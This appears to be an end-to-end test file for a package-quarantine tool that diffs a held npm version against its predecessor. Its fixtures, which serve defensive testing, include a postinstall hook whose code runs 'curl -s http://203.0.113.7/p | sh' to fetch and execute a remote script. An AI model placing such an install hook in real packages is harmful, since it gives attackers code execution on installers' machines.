/**
 * A reviewer's first question about a held version: what changed since the release before it?
 * `airlock quarantine changes ID` (GET /-/api/quarantine/{id}/changes) compares the held version's
 * verified tarball with the previous version's, file by file, and shows the install scripts
 * before and after.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { FIXTURE_PACKAGES } from '../../npm/helpers.ts';
import { e2e, quarantineIdIn } from './support.ts';

const CHANGING = {
  name: 'scripted-changes',
  versions: [
    { version: '1.0.0', publishedAt: '2024-01-01T00:00:00.000Z', files: [{ path: 'lib/util.js', content: 'module.exports = 1;\n' }, { path: 'README.md', content: '# hello\n' }] },
    {
      version: '1.1.0',
      publishedAt: '2024-02-01T00:00:00.000Z',
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: [
        { path: 'install.js', content: 'require("child_process").exec("curl -s http://203.0.113.7/p | sh");\n' },
        { path: 'README.md', content: '# hello\n' },
      ],
    },
  ],
};

test('airlock quarantine changes: the held version against the release before it, file by file, with its install scripts', async (t) => {
  const s = await e2e({ packages: [...FIXTURE_PACKAGES, CHANGING] });
  t.after(() => s.close());
  const p = await s.project();
  const held = await p.npm(['install', 'scripted-changes@1.1.0']);
  assert.notEqual(held.code, 0);
  const id = quarantineIdIn(held.output);
  assert.notEqual(id, '', held.output);

  const text = await s.cli(['quarantine', 'changes', id]);
  assert.equal(text.code, 0, text.output);
  const lines = text.stdout.trim().split('\n');
  assert.equal(lines[0], 'pkg:npm/scripted-changes@1.1.0 against 1.0.0: 1 added, 1 removed, 2 changed, 1 unchanged');
  assert.match(lines[1] ?? '', /^ {2}\+ install\.js {2}\(\d+ bytes\)$/);
  assert.match(lines[2] ?? '', /^ {2}- lib\/util\.js {2}\(20 bytes\)$/);
  // The fixture's index.js names its version; package.json gained the script.
  assert.match(lines[3] ?? '', /^ {2}~ index\.js {2}\(\d+ bytes -> \d+ bytes\)$/);
  assert.match(lines[4] ?? '', /^ {2}~ package\.json {2}\(\d+ bytes -> \d+ bytes\)$/);
  assert.equal(lines[5], 'install scripts: none -> postinstall: node install.js');

  const json = await s.cli(['quarantine', 'changes', id, '--format', 'json']);
  const report = JSON.parse(json.stdout) as { base: string; unchanged: number; counts: Record<string, number>; installScripts: { before: object; after: object } };
  assert.equal(report.base, '1.0.0');
  assert.deepEqual(report.counts, { added: 1, removed: 1, changed: 2 });
  assert.equal(report.unchanged, 1, 'README.md');
  assert.deepEqual(report.installScripts, { before: {}, after: { postinstall: 'node install.js' } });

  // Comparing fetched and verified the earlier release, without judging it: no decision on it.
  const decisions = async (purl: string): Promise<unknown[]> => {
    const res = await fetch(`${s.airlock.url}/-/api/decisions?purl=${encodeURIComponent(purl)}`, { headers: { authorization: `Bearer ${s.airlock.adminToken}` } });
    assert.equal(res.status, 200);
    return ((await res.json()) as { items: unknown[] }).items;
  };
  assert.equal((await decisions('pkg:npm/scripted-changes@1.0.0')).length, 0);
  assert.equal((await decisions('pkg:npm/scripted-changes@1.1.0')).length, 1);
  assert.ok(s.env.registry.requests.some((r) => r.path === '/scripted-changes/-/scripted-changes-1.0.0.tgz'), 'the earlier tarball came from the upstream');

  // A package's first release has nothing before it: every file is new.
  const first = await p.npm(['install', 'scripted-pkg']);
  const firstId = quarantineIdIn(first.output);
  const alone = await s.cli(['quarantine', 'changes', firstId]);
  assert.equal(alone.code, 0, alone.output);
  assert.match(alone.stdout, /^pkg:npm\/scripted-pkg@1\.0\.0 is the package's first release here: 2 files\n/);
  assert.match(alone.stdout, /install scripts: postinstall: node -e "1"\n$/);

  const anonymous = await fetch(`${s.airlock.url}/-/api/quarantine/${firstId}/changes`);
  assert.equal(anonymous.status, 401, 'a reader token at least');
  const unknown = await s.cli(['quarantine', 'changes', '01JQ0000000000000000000000']);
  assert.notEqual(unknown.code, 0);
  assert.match(unknown.output, /not found|no quarantine/i);
});

test('airlock quarantine changes --diff: a changed file line by line (diff -u), a removed one, a binary one by digest, and the reasons it refuses', async (t) => {
  const EDITED = {
    name: 'scripted-edits',
    versions: [
      {
        version: '1.0.0',
        publishedAt: '2024-01-01T00:00:00.000Z',
        files: [
          { path: 'lib/util.js', content: 'exports.a = 1;\nexports.b = 2;\nexports.c = 3;\nexports.d = 4;\nexports.e = 5;\n' },
          { path: 'old.js', content: 'module.exports = "gone";\n' },
          { path: 'logo.bin', content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01]) },
        ],
      },
      {
        version: '1.1.0',
        publishedAt: '2024-02-01T00:00:00.000Z',
        manifest: { scripts: { postinstall: 'node lib/util.js' } },
        files: [
          { path: 'lib/util.js', content: 'exports.a = 1;\nexports.b = 2;\nrequire("child_process").exec("curl -s http://203.0.113.7/p | sh");\nexports.c = 3;\nexports.d = 4;\nexports.e = 5;\n' },
          { path: 'logo.bin', content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x02]) },
        ],
      },
    ],
  };
  const s = await e2e({ packages: [...FIXTURE_PACKAGES, EDITED] });
  t.after(() => s.close());
  const p = await s.project();
  const held = await p.npm(['install', 'scripted-edits@1.1.0']);
  const id = quarantineIdIn(held.output);
  assert.notEqual(id, '', held.output);

  const changed = await s.cli(['quarantine', 'changes', id, '--diff', 'lib/util.js']);
  assert.equal(changed.code, 0, changed.output);
  const [head, counts, ...rest] = changed.stdout.split('\n');
  assert.match(head ?? '', /^pkg:npm\/scripted-edits@1\.1\.0 lib\/util\.js: against 1\.0\.0 \(before: 75 bytes, sha256 [0-9a-f]{16}…; after: 143 bytes, sha256 [0-9a-f]{16}…\)$/);
  assert.equal(counts, '+1 -0 lines');
  assert.equal(
    rest.join('\n'),
    ['--- a/lib/util.js', '+++ b/lib/util.js', '@@ -1,5 +1,6 @@', ' exports.a = 1;', ' exports.b = 2;', '+require("child_process").exec("curl -s http://203.0.113.7/p | sh");', ' exports.c = 3;', ' exports.d = 4;', ' exports.e = 5;', ''].join('\n'),
  );

  const gone = JSON.parse((await s.cli(['quarantine', 'changes', id, '--diff', 'old.js', '--format', 'json'])).stdout) as { after: unknown; removed: number; unified: string };
  assert.equal(gone.after, null);
  assert.equal(gone.removed, 1);
  assert.equal(gone.unified, '--- a/old.js\n+++ /dev/null\n@@ -1 +0,0 @@\n-module.exports = "gone";\n');

  const binary = await s.cli(['quarantine', 'changes', id, '--diff', 'logo.bin']);
  assert.equal(binary.code, 0, binary.output);
  assert.match(binary.stdout, /\nnot text \(binary, or not UTF-8\): compared by digest only\n$/);

  const missing = await s.cli(['quarantine', 'changes', id, '--diff', 'nowhere.js']);
  assert.notEqual(missing.code, 0);
  assert.match(missing.output, /neither 1\.1\.0 nor 1\.0\.0 has the file "nowhere\.js"/);
  const anonymous = await fetch(`${s.airlock.url}/-/api/quarantine/${id}/changes/diff?path=lib%2Futil.js`);
  assert.equal(anonymous.status, 401);
});
